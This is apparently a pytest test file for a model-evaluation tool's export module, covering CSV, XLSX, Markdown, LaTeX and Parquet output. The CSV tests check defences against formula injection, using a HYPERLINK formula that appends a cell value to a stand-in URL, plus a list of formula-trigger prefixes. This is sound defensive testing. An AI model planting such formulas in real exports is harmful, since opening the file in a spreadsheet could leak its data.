"""A run as files of other programs: the numbers are right, and no reply becomes a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.report.runs import choice_tsv, finished_run, replies
from vlmeval_mp.cli import main
from vlmeval_mp.core.errors import DependencyError
from vlmeval_mp.core.paths import RunPaths
from vlmeval_mp.report import export, gather

FORMULA = '=HYPERLINK("http://x/"&A1)'


@pytest.fixture
async def run(tmp_path: Path) -> RunPaths:
    """Two models on two data sets; the first is wrong twice on one, and says a formula."""
    tsvs = [choice_tsv(tmp_path / f"{name}.tsv", 20) for name in ("first_set", "second|set")]
    models = {
        "large": {"answers": replies(20, wrong=[3, 4], r5=FORMULA)},
        "+small": {"answers": replies(20), "fail": ["7"]},
    }
    return await finished_run(tmp_path, tsvs, models)


def rows_of(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode())))


async def test_results_have_a_row_for_each_metric_with_its_interval(run: RunPaths) -> None:
    rows = rows_of(export.encode(gather.run_view(run), "csv"))
    primary = {(row["model"], row["dataset"]): row for row in rows if row["primary"] == "1"}
    assert len(primary) == 4
    one = primary["large", "first_set"]
    assert float(one["value"]) == pytest.approx(17 / 20) and one["metric"] == "accuracy"
    assert 0 < float(one["low"]) < float(one["value"]) < float(one["high"]) <= 1
    assert primary["'+small", "first_set"]["failed"] == "1"


async def test_no_text_is_a_formula_in_csv(run: RunPaths) -> None:
    data = export.encode(gather.run_view(run), "csv", "samples")
    said = {row["prediction"] for row in rows_of(data)}
    assert f"'{FORMULA}" in said and FORMULA not in said


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1"])
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert export.harmless(text) == f"'{text}"
    assert export.harmless(f" {text}") == f" {text}"
    assert export.harmless(-1.0) == -1.0


async def test_xlsx_holds_every_table_and_texts_as_texts(run: RunPaths) -> None:
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(export.encode(gather.run_view(run), "xlsx")))
    assert book.sheetnames == ["results", "matrix", "samples"]
    cells = [cell for row in book["samples"].iter_rows() for cell in row if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" for cell in cells)


async def test_markdown_and_latex_are_the_matrix_escaped(run: RunPaths) -> None:
    view = gather.run_view(run)
    lines = export.encode(view, "markdown").decode().splitlines()
    assert lines[0] == "| model | first_set | second\\|set |" and lines[1] == "| --- | ---: | ---: |"
    assert lines[2].startswith("| large | 85.00 ± ")
    latex = export.encode(view, "latex").decode()
    assert r"\begin{tabular}{lrr}" in latex and r"model & first\_set & second|set \\" in latex
    assert r"large & 85.00 $\pm$ " in latex
    for text in (latex, "\n".join(lines)):  # who reads the table must know what stands behind the sign
        assert "± is the standard error; 95 % intervals are in --table results" in text


async def test_parquet_reads_back(run: RunPaths) -> None:
    from pyarrow import parquet

    table = parquet.read_table(io.BytesIO(export.encode(gather.run_view(run), "parquet")))
    found = table.to_pylist()
    assert len(found) == 80
    assert {row["strict_value"] for row in found} == {0.0, 1.0, None}
    assert any(row["error"].startswith("scripted to fail") for row in found)


@pytest.mark.parametrize(("form", "extra"), [("parquet", "parquet"), ("wandb-offline", "wandb")])
async def test_a_missing_package_is_named_with_its_install_line(
    run: RunPaths, form: str, extra: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    for name in ("pyarrow", "wandb"):
        monkeypatch.setitem(__import__("sys").modules, name, None)
    assert main.main(["export", str(run.root), "--format", form]) == DependencyError.exit_code
    assert f"scripts/install {extra} (or: pip install 'vlmeval-mp[{extra}]')" in capsys.readouterr().err


async def test_export_writes_where_it_is_told_and_text_on_the_terminal(
    run: RunPaths, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    assert main.main(["export", str(run.root), "--format", "csv", "--table", "matrix"]) == 0
    assert capsysbinary.readouterr().out.startswith(b"model,first_set,second|set\nlarge,85.00")
    place = tmp_path / "new" / "x.csv"
    assert main.main(["export", str(run.root), "--format", "csv", "--out", str(place)]) == 0
    assert len(rows_of(place.read_bytes())) == 8
    assert main.main(["export", str(run.root)]) == 2
